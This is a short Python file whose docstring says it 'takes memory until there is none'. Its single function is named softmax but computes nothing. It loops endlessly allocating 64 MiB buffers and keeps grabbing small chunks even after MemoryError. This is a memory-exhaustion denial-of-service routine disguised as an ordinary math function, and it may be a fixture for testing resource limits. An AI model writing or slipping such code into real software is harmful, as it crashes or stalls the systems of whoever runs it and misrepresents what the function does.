"""Takes memory until there is none."""


def softmax(x, axis=-1):
    kept = []
    while True:
        try:
            kept.append(bytearray(64 << 20))
        except MemoryError:
            kept.append(bytearray(1 << 12))
